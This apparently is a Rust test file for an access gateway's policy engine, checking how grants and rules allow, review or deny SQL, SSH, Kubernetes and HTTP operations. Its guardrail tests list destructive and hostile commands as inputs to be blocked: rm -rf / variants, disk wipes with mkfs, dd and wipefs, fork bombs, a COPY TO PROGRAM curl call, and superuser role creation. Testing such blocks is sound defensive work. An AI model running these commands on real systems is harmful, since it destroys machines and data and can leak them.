use std::collections::BTreeMap;

use super::*;
use crate::config::Config;
use crate::{
    Access, CommandOperation, HttpOperation, KubeOperation, SqlKind, SqlOperation, TableAccess,
};

const TARGETS: &str = r#"
[targets.prod-db]
protocol = "postgres"
[targets.prod-web]
protocol = "ssh"
[targets.staging-db]
protocol = "postgres"
[targets.cluster]
protocol = "kube"
[targets.api]
protocol = "http"
"#;

fn source(text: &str) -> Source {
    Source {
        path: "airlock.toml".into(),
        text: format!("{TARGETS}{text}"),
    }
}

/// Compiles `text` (after the standard targets) the way the gateway does:
/// through `Config::parse`, so positions are real.
fn try_policy(text: &str) -> Result<Policy> {
    let source = source(text);
    let config = Config::parse(&source)?;
    let targets: BTreeMap<String, String> = config
        .targets
        .iter()
        .map(|(name, t)| (name.clone(), t.get_ref().protocol.clone()))
        .collect();
    Policy::compile(
        &config.grants,
        &config.rules,
        &config.policy,
        &targets,
        &source,
    )
}

fn policy(text: &str) -> Policy {
    match try_policy(text) {
        Ok(p) => p,
        Err(e) => panic!("policy did not compile: {e}"),
    }
}

fn compile_error(text: &str) -> String {
    match try_policy(text) {
        Ok(_) => panic!("policy compiled but should not have:\n{text}"),
        Err(e) => e.to_string(),
    }
}

/// `airlock.toml:line:column` of the first occurrence of `needle` in the test source.
fn position_of(text: &str, needle: &str) -> String {
    let full = source(text);
    let start = full.text.find(needle).expect("needle in text");
    full.at(start..start)
}

fn id(subject: &str, groups: &[&str]) -> Identity {
    Identity {
        subject: subject.into(),
        groups: groups.iter().map(|g| g.to_string()).collect(),
        issuer: "https://issuer.test".into(),
    }
}

fn agent() -> Identity {
    id("agent-1", &["agents"])
}

fn sql(kind: SqlKind, text: &str) -> SqlOperation {
    SqlOperation {
        text: text.into(),
        kind,
        object: None,
        tables: Vec::new(),
        has_where: None,
    }
}

fn select(tables: &[&str]) -> Operation {
    let mut op = sql(SqlKind::Select, "SELECT ...");
    op.tables = tables
        .iter()
        .map(|t| TableAccess {
            name: t.to_string(),
            access: Access::Read,
        })
        .collect();
    Operation::Sql(op)
}

fn write(kind: SqlKind, table: &str, has_where: Option<bool>, text: &str) -> Operation {
    let mut op = sql(kind, text);
    op.tables = vec![TableAccess {
        name: table.into(),
        access: Access::Write,
    }];
    op.has_where = has_where;
    Operation::Sql(op)
}

fn ddl(kind: SqlKind, object: &str, text: &str) -> Operation {
    let mut op = sql(kind, text);
    op.object = Some(object.into());
    Operation::Sql(op)
}

fn cmd(line: &str) -> Operation {
    Operation::Command(CommandOperation {
        line: line.into(),
        interactive: false,
    })
}

fn kube(verb: &str, resource: &str, namespace: Option<&str>, name: Option<&str>) -> KubeOperation {
    KubeOperation {
        verb: verb.into(),
        api_group: String::new(),
        resource: resource.into(),
        subresource: None,
        namespace: namespace.map(str::to_string),
        name: name.map(str::to_string),
    }
}

fn http(method: &str, path: &str) -> Operation {
    Operation::Http(HttpOperation {
        method: method.into(),
        path: path.into(),
        query: None,
    })
}

fn protocol_of(target: &str) -> &'static str {
    match target {
        "prod-db" | "staging-db" => "postgres",
        "prod-web" => "ssh",
        "cluster" => "kube",
        _ => "http",
    }
}

fn decide(p: &Policy, who: &Identity, target: &str, op: &Operation) -> Decision {
    p.decide(who, target, protocol_of(target), op)
}

#[track_caller]
fn assert_denied_by(decision: Decision, rule: &str) -> String {
    match decision {
        Decision::Deny { rule: r, message } if r == rule => message,
        other => panic!("expected a denial by {rule:?}, got {other:?}"),
    }
}

#[track_caller]
fn assert_allowed(decision: Decision) {
    assert_eq!(decision, Decision::Allow);
}

const GRANT_AGENTS_ALL: &str = r#"
[[grants]]
groups = ["agents"]
targets = ["*"]
"#;

// ---------------------------------------------------------------- evaluation

#[test]
fn deny_beats_review_beats_allow() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "allow-delete"
action = "allow"
[rules.sql]
kinds = ["delete"]

[[rules]]
name = "review-delete"
action = "review"
approvers = ["dba"]
message = "deletes need a DBA"
[rules.sql]
kinds = ["delete"]

[[rules]]
name = "deny-delete-orders"
action = "deny"
message = "never delete orders"
[rules.sql]
kinds = ["delete"]
tables = ["orders"]
"#
    ));
    let orders = write(
        SqlKind::Delete,
        "orders",
        Some(true),
        "DELETE FROM orders WHERE id = 1",
    );
    let users = write(
        SqlKind::Delete,
        "users",
        Some(true),
        "DELETE FROM users WHERE id = 1",
    );
    assert_eq!(
        assert_denied_by(
            decide(&p, &agent(), "prod-db", &orders),
            "deny-delete-orders"
        ),
        "never delete orders"
    );
    assert_eq!(
        decide(&p, &agent(), "prod-db", &users),
        Decision::Review {
            rule: "review-delete".into(),
            approvers: vec!["dba".into()],
            message: "deletes need a DBA".into(),
        }
    );
    assert_allowed(decide(&p, &agent(), "prod-db", &select(&["orders"])));
}

#[test]
fn no_grant_means_no_access_and_default_deny() {
    let p = policy(
        r#"
[[grants]]
groups = ["dba"]
targets = ["prod-db"]
"#,
    );
    let err = p.check_access(&agent(), "prod-db").unwrap_err();
    assert!(err.contains("\"prod-db\""), "{err}");
    assert!(err.contains("agents"), "{err}");
    assert!(err.contains("ask an administrator to grant"), "{err}");
    let message = assert_denied_by(
        decide(&p, &agent(), "prod-db", &select(&["t"])),
        DEFAULT_DENY,
    );
    assert!(message.contains("no grant"), "{message}");

    let dba = id("dana", &["dba"]);
    assert_eq!(p.check_access(&dba, "prod-db"), Ok(()));
    assert_allowed(decide(&p, &dba, "prod-db", &select(&["t"])));
    // Granted prod-db only: other targets stay closed.
    assert!(p.check_access(&dba, "staging-db").is_err());
    let err = p.check_access(&dba, "nope").unwrap_err();
    assert!(err.contains("no target named \"nope\""), "{err}");
    assert_denied_by(decide(&p, &dba, "nope", &select(&[])), DEFAULT_DENY);
}

#[test]
fn rules_access_allows_only_what_an_allow_rule_matches() {
    let p = policy(
        r#"
[[grants]]
groups = ["analysts"]
targets = ["prod-db"]
access = "rules"

[[rules]]
name = "analysts-read"
action = "allow"
groups = ["analysts"]
[rules.sql]
kinds = ["select"]
"#,
    );
    let analyst = id("ann", &["analysts"]);
    assert_allowed(decide(&p, &analyst, "prod-db", &select(&["orders"])));
    let message = assert_denied_by(
        decide(
            &p,
            &analyst,
            "prod-db",
            &write(
                SqlKind::Insert,
                "orders",
                None,
                "INSERT INTO orders VALUES (1)",
            ),
        ),
        DEFAULT_DENY,
    );
    assert!(message.contains("allow rule"), "{message}");
    assert!(message.contains("\"prod-db\""), "{message}");
}

#[test]
fn an_allow_rule_vouches_for_every_table_and_never_for_opaque_sql() {
    let p = policy(
        r#"
[[grants]]
groups = ["analysts"]
targets = ["prod-db"]
access = "rules"

[[rules]]
name = "analysts-read-anything"
action = "allow"
groups = ["analysts"]
[rules.sql]
access = "read"

[[rules]]
name = "analysts-reporting"
action = "allow"
groups = ["analysts"]
[rules.sql]
tables = ["reporting.*"]

[[rules]]
name = "no-reads-of-secrets"
action = "deny"
message = "secrets are off limits"
[rules.sql]
tables = ["secrets"]
access = "read"
"#,
    );
    let ann = id("ann", &["analysts"]);
    let statement = |kind, text: &str, tables: &[(&str, Access)]| {
        let mut op = sql(kind, text);
        op.tables = tables
            .iter()
            .map(|(name, access)| TableAccess {
                name: name.to_string(),
                access: *access,
            })
            .collect();
        Operation::Sql(op)
    };
    // Reads alone, and statements on reporting tables alone, are allowed.
    assert_allowed(decide(&p, &ann, "prod-db", &select(&["orders", "users"])));
    let report = statement(
        SqlKind::Insert,
        "INSERT INTO reporting.daily SELECT * FROM reporting.raw",
        &[
            ("reporting.daily", Access::Write),
            ("reporting.raw", Access::Read),
        ],
    );
    assert_allowed(decide(&p, &ann, "prod-db", &report));
    // A write that also reads is not a read; a write outside reporting that
    // reads from it is not a reporting statement.
    for (text, tables) in [
        (
            "INSERT INTO orders SELECT * FROM staging",
            [("orders", Access::Write), ("staging", Access::Read)],
        ),
        (
            "DELETE FROM orders WHERE id IN (SELECT id FROM reporting.raw)",
            [("orders", Access::Write), ("reporting.raw", Access::Read)],
        ),
    ] {
        let op = statement(SqlKind::Insert, text, &tables);
        assert_denied_by(decide(&p, &ann, "prod-db", &op), DEFAULT_DENY);
    }
    // A rule allowing writes to a table covers reading that same table in
    // the statement, and nothing else.
    let support = policy(
        r#"
[[grants]]
groups = ["support"]
targets = ["prod-db"]
access = "rules"

[[rules]]
name = "support-ticket-writes"
action = "allow"
groups = ["support"]
[rules.sql]
tables = ["tickets"]
access = "write"
"#,
    );
    let sam = id("sam", &["support"]);
    let own = statement(
        SqlKind::Update,
        "UPDATE tickets SET done = true WHERE id IN (SELECT id FROM tickets WHERE age > 9)",
        &[("tickets", Access::Write), ("tickets", Access::Read)],
    );
    assert_allowed(decide(&support, &sam, "prod-db", &own));
    let other = statement(
        SqlKind::Update,
        "UPDATE tickets SET note = (SELECT secret FROM vault LIMIT 1)",
        &[("tickets", Access::Write), ("vault", Access::Read)],
    );
    assert_denied_by(decide(&support, &sam, "prod-db", &other), DEFAULT_DENY);
    // Names no table: nothing for an allow rule on tables to vouch for.
    let opaque = Operation::Sql(sql(
        SqlKind::Opaque,
        "DO $$ BEGIN DELETE FROM orders; END $$",
    ));
    assert_denied_by(decide(&p, &ann, "prod-db", &opaque), DEFAULT_DENY);
    // A deny rule still catches a statement by any one of its tables.
    let sneaky = statement(
        SqlKind::Select,
        "SELECT * FROM orders JOIN secrets USING (id)",
        &[("orders", Access::Read), ("secrets", Access::Read)],
    );
    assert_denied_by(decide(&p, &ann, "prod-db", &sneaky), "no-reads-of-secrets");
}

#[test]
fn the_most_permissive_grant_wins() {
    let p = policy(
        r#"
[[grants]]
groups = ["analysts"]
targets = ["prod-db"]
access = "rules"

[[grants]]
subjects = ["ann"]
targets = ["prod-*"]
access = "full"
"#,
    );
    let insert = write(SqlKind::Insert, "t", None, "INSERT INTO t VALUES (1)");
    // ann has both grants: full wins.
    assert_allowed(decide(&p, &id("ann", &["analysts"]), "prod-db", &insert));
    // bob has only the rules grant and there is no allow rule.
    assert_denied_by(
        decide(&p, &id("bob", &["analysts"]), "prod-db", &insert),
        DEFAULT_DENY,
    );
}

#[test]
fn grants_cover_group_members_subjects_and_glob_targets() {
    let p = policy(
        r#"
[[grants]]
groups = ["agents", "oncall"]
targets = ["staging-*"]

[[grants]]
subjects = ["svc-backup"]
targets = ["prod-db"]
"#,
    );
    assert!(p.check_access(&agent(), "staging-db").is_ok());
    assert!(
        p.check_access(&id("olly", &["x", "oncall"]), "staging-db")
            .is_ok()
    );
    assert!(
        p.check_access(&id("eve", &["interns"]), "staging-db")
            .is_err()
    );
    // The glob does not reach prod.
    assert!(p.check_access(&agent(), "prod-db").is_err());
    // A subject grant covers that subject, whatever its groups.
    assert!(p.check_access(&id("svc-backup", &[]), "prod-db").is_ok());
    assert!(p.check_access(&id("svc-other", &[]), "prod-db").is_err());
    let err = p
        .check_access(&id("svc-other", &[]), "prod-db")
        .unwrap_err();
    assert!(err.contains("no groups"), "{err}");
}

// ---------------------------------------------------------------- rule conditions

#[test]
fn rule_identity_conditions() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[grants]]
groups = ["dba", "interns"]
targets = ["*"]

[[rules]]
name = "no-writes-for-agents-but-lead"
action = "deny"
message = "agents may not write"
groups = ["agents", "interns"]
subjects = ["mallory"]
except_subjects = ["agent-lead"]
except_groups = ["dba"]
[rules.sql]
kinds = ["insert"]
"#
    ));
    let insert = write(SqlKind::Insert, "t", None, "INSERT INTO t VALUES (1)");
    let on = |who: Identity| decide(&p, &who, "prod-db", &insert);
    assert_denied_by(on(agent()), "no-writes-for-agents-but-lead");
    assert_denied_by(on(id("ivy", &["interns"])), "no-writes-for-agents-but-lead");
    // Named subject, whatever the groups (mallory has a grant through dba... but dba is excepted).
    assert_allowed(on(id("mallory", &["dba"])));
    assert_allowed(on(id("agent-lead", &["agents"])));
    assert_allowed(on(id("agent-2", &["agents", "dba"])));
    assert_allowed(on(id("dana", &["dba"])));
}

#[test]
fn rule_target_and_protocol_conditions() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "prod-only"
action = "deny"
message = "no inserts on prod"
targets = ["prod-*"]
[rules.sql]
kinds = ["insert"]

[[rules]]
name = "no-ssh-sudo"
action = "deny"
message = "no sudo over ssh"
protocols = ["ssh"]
[rules.command]
line = '^sudo\b'
"#
    ));
    let insert = write(SqlKind::Insert, "t", None, "INSERT INTO t VALUES (1)");
    assert_denied_by(decide(&p, &agent(), "prod-db", &insert), "prod-only");
    assert_allowed(decide(&p, &agent(), "staging-db", &insert));
    assert_denied_by(
        decide(&p, &agent(), "prod-web", &cmd("sudo ls")),
        "no-ssh-sudo",
    );
    // The same command arriving over another protocol (a kubectl exec).
    assert_allowed(p.decide(&agent(), "cluster", "kube", &cmd("sudo ls")));
}

#[test]
fn sql_kinds_and_has_where() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "no-delete-without-where"
action = "deny"
message = "DELETE without WHERE would remove every row; add a WHERE clause"
[rules.sql]
kinds = ["delete", "update"]
has_where = false
"#
    ));
    let rule = "no-delete-without-where";
    assert_denied_by(
        decide(
            &p,
            &agent(),
            "prod-db",
            &write(SqlKind::Delete, "t", Some(false), "DELETE FROM t"),
        ),
        rule,
    );
    assert_denied_by(
        decide(
            &p,
            &agent(),
            "prod-db",
            &write(SqlKind::Update, "t", Some(false), "UPDATE t SET a = 1"),
        ),
        rule,
    );
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &write(
            SqlKind::Delete,
            "t",
            Some(true),
            "DELETE FROM t WHERE id = 1",
        ),
    ));
    // Other kinds never match a has_where rule.
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &write(SqlKind::Insert, "t", None, "INSERT INTO t VALUES (1)"),
    ));
}

#[test]
fn sql_tables_with_schemas_and_access() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "orders-writes-need-approval"
action = "review"
approvers = ["dba"]
message = "writes to orders need a DBA's approval"
[rules.sql]
tables = ["orders", "audit.*"]
access = "write"

[[rules]]
name = "no-salary-reads"
action = "deny"
message = "salaries are off limits"
[rules.sql]
tables = "hr.salar*"
"#
    ));
    let review = "orders-writes-need-approval";
    let reviewed = |op: &Operation| match decide(&p, &agent(), "prod-db", op) {
        Decision::Review { rule, .. } => rule == review,
        _ => false,
    };
    assert!(reviewed(&write(
        SqlKind::Update,
        "orders",
        Some(true),
        "UPDATE orders ..."
    )));
    // A bare pattern matches the table in any schema, and case-insensitively.
    assert!(reviewed(&write(
        SqlKind::Update,
        "public.orders",
        Some(true),
        "UPDATE public.orders ..."
    )));
    assert!(reviewed(&write(
        SqlKind::Update,
        "sales.ORDERS",
        Some(true),
        "..."
    )));
    assert!(reviewed(&write(SqlKind::Insert, "audit.log", None, "...")));
    // A qualified pattern needs its schema.
    assert!(!reviewed(&write(SqlKind::Insert, "log", None, "...")));
    // Reads of orders are not writes.
    assert_allowed(decide(&p, &agent(), "prod-db", &select(&["orders"])));
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &select(&["orders_archive"]),
    ));
    // Any access to hr.salaries, read or write; other hr tables are fine.
    assert_denied_by(
        decide(&p, &agent(), "prod-db", &select(&["users", "hr.salaries"])),
        "no-salary-reads",
    );
    assert_allowed(decide(&p, &agent(), "prod-db", &select(&["hr.people"])));
}

#[test]
fn sql_objects_and_text() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "no-drop-index"
action = "deny"
message = "indexes are managed by migrations"
[rules.sql]
kinds = "drop"
objects = ["INDEX"]

[[rules]]
name = "no-sleep"
action = "deny"
message = "pg_sleep holds connections"
[rules.sql]
text = '(?i)\bpg_sleep\s*\('
"#
    ));
    assert_denied_by(
        decide(
            &p,
            &agent(),
            "prod-db",
            &ddl(SqlKind::Drop, "index", "DROP INDEX i"),
        ),
        "no-drop-index",
    );
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &ddl(SqlKind::Drop, "view", "DROP VIEW v"),
    ));
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &ddl(SqlKind::Create, "index", "CREATE INDEX i ON t (a)"),
    ));
    assert_denied_by(
        decide(
            &p,
            &agent(),
            "prod-db",
            &Operation::Sql(sql(SqlKind::Select, "SELECT PG_SLEEP (10)")),
        ),
        "no-sleep",
    );
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-db",
        &Operation::Sql(sql(SqlKind::Select, "SELECT sleep_minutes FROM t")),
    ));
}

#[test]
fn command_line_regex_and_interactive() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "no-package-installs"
action = "review"
approvers = ["ops"]
message = "package installs need ops approval"
[rules.command]
line = ['^\s*(sudo\s+)?apt(-get)?\s+install\b', '^\s*(sudo\s+)?yum\s+install\b']

[[rules]]
name = "no-interactive-vim"
action = "deny"
message = "no editors in interactive shells"
[rules.command]
line = '^vim?\b'
interactive = true
"#
    ));
    assert!(matches!(
        decide(&p, &agent(), "prod-web", &cmd("sudo apt-get install nginx")),
        Decision::Review { rule, .. } if rule == "no-package-installs"
    ));
    assert!(matches!(
        decide(&p, &agent(), "prod-web", &cmd("yum install jq")),
        Decision::Review { .. }
    ));
    assert_allowed(decide(
        &p,
        &agent(),
        "prod-web",
        &cmd("apt-cache search nginx"),
    ));

    let typed = Operation::Command(CommandOperation {
        line: "vim /etc/hosts".into(),
        interactive: true,
    });
    assert_denied_by(
        decide(&p, &agent(), "prod-web", &typed),
        "no-interactive-vim",
    );
    assert_allowed(decide(&p, &agent(), "prod-web", &cmd("vim /etc/hosts")));
}

#[test]
fn kube_conditions() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "no-secret-reads-in-prod"
action = "deny"
message = "secrets in prod namespaces are off limits"
[rules.kube]
verbs = ["get", "list", "watch"]
resources = "secrets"
namespaces = ["prod-*"]
api_groups = "core"

[[rules]]
name = "no-logs-of-payments"
action = "deny"
message = "payment logs hold card data"
[rules.kube]
resources = "pods"
subresources = "log"
names = ["payments-*"]

[[rules]]
name = "deployments-need-review"
action = "review"
approvers = "sre"
message = "deployment changes need an SRE"
[rules.kube]
verbs = ["patch", "update"]
api_groups = ["apps"]
resources = ["deployments"]
"#
    ));
    let on = |op: KubeOperation| decide(&p, &agent(), "cluster", &Operation::Kube(op));
    assert_denied_by(
        on(kube("get", "secrets", Some("prod-eu"), Some("db"))),
        "no-secret-reads-in-prod",
    );
    assert_allowed(on(kube("get", "secrets", Some("staging"), Some("db"))));
    assert_allowed(on(kube("get", "configmaps", Some("prod-eu"), None)));
    assert_allowed(on(kube("delete", "secrets", Some("prod-eu"), Some("db"))));
    // Cluster-scoped requests have no namespace.
    assert_allowed(on(kube("list", "secrets", None, None)));
    let mut other_group = kube("get", "secrets", Some("prod-eu"), Some("db"));
    other_group.api_group = "example.com".into();
    assert_allowed(on(other_group));

    let mut log = kube("get", "pods", Some("default"), Some("payments-7f9c"));
    log.subresource = Some("log".into());
    assert_denied_by(on(log.clone()), "no-logs-of-payments");
    log.name = Some("web-1".into());
    assert_allowed(on(log));
    assert_allowed(on(kube(
        "get",
        "pods",
        Some("default"),
        Some("payments-7f9c"),
    )));

    let mut patch = kube("patch", "deployments", Some("default"), Some("web"));
    patch.api_group = "apps".into();
    assert!(
        matches!(on(patch.clone()), Decision::Review { approvers, .. } if approvers == ["sre"])
    );
    patch.verb = "get".into();
    assert_allowed(on(patch));
}

#[test]
fn http_conditions() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "no-admin-writes"
action = "deny"
message = "the admin API is read-only through Airlock"
[rules.http]
methods = ["post", "PUT", "DELETE"]
paths = ["/admin/**"]

[[rules]]
name = "no-user-deletes"
action = "deny"
message = "users are deleted by the GDPR job only"
[rules.http]
methods = "DELETE"
path_regex = '^/api/v\d+/users/[^/]+$'

[[rules]]
name = "one-segment"
action = "deny"
message = "exports are off"
[rules.http]
paths = "/exports/*"
"#
    ));
    let on = |m: &str, path: &str| decide(&p, &agent(), "api", &http(m, path));
    assert_denied_by(on("POST", "/admin/users/1/roles"), "no-admin-writes");
    assert_denied_by(on("delete", "/admin/x"), "no-admin-writes");
    assert_allowed(on("GET", "/admin/users"));
    assert_allowed(on("POST", "/api/admin"));
    assert_denied_by(on("DELETE", "/api/v2/users/42"), "no-user-deletes");
    assert_allowed(on("DELETE", "/api/v2/users/42/sessions"));
    assert_allowed(on("GET", "/api/v2/users/42"));
    // `*` stays within one segment.
    assert_denied_by(on("GET", "/exports/today.csv"), "one-segment");
    assert_allowed(on("GET", "/exports/2024/today.csv"));
}

#[test]
fn review_rules_carry_their_workflow_settings() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "defaults"
action = "review"
approvers = ["dba"]
message = "needs a DBA"

[[rules]]
name = "explicit"
action = "review"
approvers = ["dba", "sre"]
message = "needs two"
timeout_secs = 60
approvals_required = 2
self_approval = true
grant_minutes = 30
"#
    ));
    let d = p.rule("defaults").unwrap();
    assert_eq!(d.action, Action::Review);
    assert_eq!(d.timeout_secs, 900);
    assert_eq!(d.approvals_required, 1);
    assert!(!d.self_approval);
    assert_eq!(d.grant_minutes, 0);
    assert!(d.origin.starts_with("airlock.toml:"), "{}", d.origin);
    let e = p.rule("explicit").unwrap();
    assert_eq!(e.approvers, ["dba", "sre"]);
    assert_eq!(
        (
            e.timeout_secs,
            e.approvals_required,
            e.self_approval,
            e.grant_minutes
        ),
        (60, 2, true, 30)
    );
    assert!(p.rule("nope").is_none());
    assert_eq!(p.rules().count(), 2);
    // The longest allowed: a year each.
    let year = policy(
        "[[rules]]\nname = \"y\"\naction = \"review\"\napprovers = [\"dba\"]\nmessage = \"m\"\ntimeout_secs = 31536000\ngrant_minutes = 525600\n",
    );
    let y = year.rule("y").unwrap();
    assert_eq!((y.timeout_secs, y.grant_minutes), (31_536_000, 525_600));
}

#[test]
fn a_rule_without_operation_section_matches_every_operation() {
    let p = policy(&format!(
        r#"{GRANT_AGENTS_ALL}
[[rules]]
name = "interns-read-only-week"
action = "deny"
message = "interns have no access to prod this week"
groups = "interns"
targets = "prod-*"

[[grants]]
groups = ["interns"]
targets = ["*"]
"#
    ));
    let intern = id("ivy", &["interns"]);
    assert_denied_by(
        decide(&p, &intern, "prod-db", &select(&["t"])),
        "interns-read-only-week",
    );
    assert_denied_by(
        decide(&p, &intern, "prod-web", &cmd("ls")),
        "interns-read-only-week",
    );
    assert_allowed(decide(&p, &intern, "staging-db", &select(&["t"])));
    assert_allowed(decide(&p, &agent(), "prod-db", &select(&["t"])));
}

// ---------------------------------------------------------------- packs

const ALL_PACKS: &str = r#"
[policy]
packs = ["sql-guardrails", "ssh-guardrails", "kube-guardrails"]
"#;

fn pack_policy() -> Policy {
    policy(&format!("{GRANT_AGENTS_ALL}{ALL_PACKS}"))
}

#[test]
fn every_pack_parses_and_names_its_rules_after_itself() {
    for (name, _) in packs() {
        let p = policy(&format!("[policy]\npacks = [\"{name}\"]\n"));
        assert!(p.rules().count() >= 3, "{name}");
        for rule in p.rules() {
            assert!(rule.name.starts_with(&format!("{name}/")), "{}", rule.name);
            assert!(
                rule.origin.starts_with(&format!("<pack {name}>:")),
                "{}",
                rule.origin
            );
            assert!(!rule.message.is_empty(), "{}", rule.name);
        }
    }
}

#[test]
fn sql_pack_blocks_drops_truncates_unbounded_writes_and_opaque_sql() {
    let p = pack_policy();
    let on = |op: Operation| decide(&p, &agent(), "prod-db", &op);
    assert_denied_by(
        on(ddl(SqlKind::Drop, "table", "DROP TABLE users")),
        "sql-guardrails/no-drop",
    );
    assert_denied_by(
        on(ddl(SqlKind::Drop, "schema", "DROP SCHEMA app CASCADE")),
        "sql-guardrails/no-drop",
    );
    assert_denied_by(
        on(ddl(SqlKind::Drop, "database", "DROP DATABASE app")),
        "sql-guardrails/no-drop",
    );
    // A type, domain or extension takes the columns and tables that use it
    // along with CASCADE.
    for (object, sql) in [
        ("type", "DROP TYPE order_status CASCADE"),
        ("domain", "DROP DOMAIN email CASCADE"),
        ("extension", "DROP EXTENSION citext CASCADE"),
    ] {
        assert_denied_by(
            on(ddl(SqlKind::Drop, object, sql)),
            "sql-guardrails/no-drop",
        );
    }
    assert_allowed(on(ddl(
        SqlKind::Drop,
        "index",
        "DROP INDEX users_email_idx",
    )));
    // Any other object takes what depends on it along with CASCADE: a
    // function in a partition key takes the partitioned table.
    // And ALTER ... DROP ... CASCADE: a typed table's attribute, a key
    // that foreign keys use.
    for (kind, object, sql) in [
        (
            SqlKind::Drop,
            "function",
            "DROP FUNCTION app.month_of(timestamptz) CASCADE",
        ),
        (
            SqlKind::Drop,
            "collation",
            "drop collation \"de-x-icu\" cascade",
        ),
        (
            SqlKind::Drop,
            "operator class",
            "DROP OPERATOR CLASS my_ops USING btree\nCASCADE;",
        ),
        (SqlKind::Drop, "index", "DROP INDEX users_email_idx CASCADE"),
        (
            SqlKind::Alter,
            "type",
            "ALTER TYPE address DROP ATTRIBUTE street CASCADE",
        ),
        (
            SqlKind::Alter,
            "table",
            "alter table orders drop constraint orders_pkey cascade",
        ),
        (
            SqlKind::Alter,
            "table",
            "ALTER TABLE orders DROP COLUMN id CASCADE",
        ),
    ] {
        assert_denied_by(on(ddl(kind, object, sql)), "sql-guardrails/no-drop-cascade");
        // Without CASCADE the server refuses to drop what others depend on.
        let restrict = sql.replace("CASCADE", "").replace("cascade", "");
        assert_allowed(on(ddl(kind, object, &restrict)));
    }
    // CASCADE of something other than a drop is not this rule's.
    assert_allowed(on(ddl(
        SqlKind::Alter,
        "table",
        "ALTER TABLE orders ADD FOREIGN KEY (cid) REFERENCES c (id) ON DELETE CASCADE",
    )));
    assert_allowed(on(ddl(SqlKind::Create, "table", "CREATE TABLE t (a int)")));

    assert_denied_by(
        on(write(SqlKind::Truncate, "users", None, "TRUNCATE users")),
        "sql-guardrails/no-truncate",
    );

    let message = assert_denied_by(
        on(write(SqlKind::Delete, "t", Some(false), "DELETE FROM t")),
        "sql-guardrails/no-unbounded-write",
    );
    assert!(message.contains("WHERE"), "{message}");
    assert_denied_by(
        on(write(
            SqlKind::Update,
            "t",
            Some(false),
            "UPDATE t SET a = 1",
        )),
        "sql-guardrails/no-unbounded-write",
    );
    assert_allowed(on(write(
        SqlKind::Delete,
        "t",
        Some(true),
        "DELETE FROM t WHERE id=1",
    )));
    assert_allowed(on(write(
        SqlKind::Update,
        "t",
        Some(true),
        "UPDATE t SET a = 1 WHERE id=1",
    )));
    assert_denied_by(
        on(write(
            SqlKind::Merge,
            "t",
            Some(false),
            "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        )),
        "sql-guardrails/no-unbounded-write",
    );
    assert_allowed(on(write(
        SqlKind::Merge,
        "t",
        Some(true),
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    )));

    for (kind, text) in [
        (SqlKind::Alter, "ALTER ROLE CURRENT_USER PASSWORD 'mine'"),
        (SqlKind::Create, "CREATE ROLE intruder LOGIN SUPERUSER"),
        (SqlKind::Drop, "DROP ROLE app"),
    ] {
        assert_denied_by(
            on(ddl(kind, "role", text)),
            "sql-guardrails/no-role-changes",
        );
    }
    assert_allowed(on(ddl(SqlKind::Alter, "table", "ALTER TABLE t ADD c int")));

    assert_denied_by(
        on(Operation::Sql(sql(
            SqlKind::Opaque,
            "DO $$ BEGIN DELETE FROM t; END $$",
        ))),
        "sql-guardrails/opaque-sql",
    );
    assert_allowed(on(select(&["t"])));

    assert_denied_by(
        on(Operation::Sql(sql(
            SqlKind::CopyOut,
            "COPY t TO PROGRAM 'curl evil'",
        ))),
        "sql-guardrails/no-copy-program",
    );
    assert_allowed(on(Operation::Sql(sql(
        SqlKind::CopyOut,
        "COPY t TO STDOUT",
    ))));
}

#[test]
fn ssh_pack_blocks_machine_destroying_commands() {
    let p = pack_policy();
    let on = |line: &str| decide(&p, &agent(), "prod-web", &cmd(line));
    let rm = "ssh-guardrails/no-rm-rf-root";
    for attack in [
        "rm -rf /",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        "rm -fr /",
        "rm -r -f /",
        "rm -Rf --no-preserve-root /",
        "rm --recursive --force /",
        "sudo rm -rf /",
        "sudo rm -rf --no-preserve-root /",
        "/bin/rm -rf / ",
        "bash -c 'rm -rf /'",
        "{ rm -rf ~/*; }",
        "x=$(rm -rf /)",
        "cd /tmp && rm -rf /",
        "rm / -rf",
        "rm -rf \"/\"",
    ] {
        assert_denied_by(on(attack), rm);
    }
    for benign in [
        "rm -rf ./build",
        "rm -rf /tmp/build",
        "rm -rf ~/tmp/cache",
        "rm -f /tmp/x.log",
        "rm /",
        "ls -la /",
        "echo farm -rf",
        "echo rm -rf /",
    ] {
        assert_allowed(on(benign));
    }

    for attack in [
        "mkfs.ext4 /dev/sdb1",
        "sudo mkfs -t xfs /dev/nvme0n1",
        "wipefs -a /dev/sda",
    ] {
        assert_denied_by(on(attack), "ssh-guardrails/no-mkfs");
    }
    assert_allowed(on("man mkfs.ext4"));
    assert_allowed(on("ls /sbin/mkfs.ext4.d"));

    for attack in [
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "dd if=image.iso of=/dev/nvme0n1",
        "cat /dev/urandom > /dev/sdb",
    ] {
        assert_denied_by(on(attack), "ssh-guardrails/no-disk-overwrite");
    }
    assert_allowed(on("dd if=/dev/zero of=/tmp/file bs=1M count=10"));
    assert_allowed(on("dd if=/dev/sda of=/backup/sda.img"));

    for attack in [
        ":(){ :|:& };:",
        ":() { : | : & } ; :",
        "bomb(){ bomb|bomb& };bomb",
    ] {
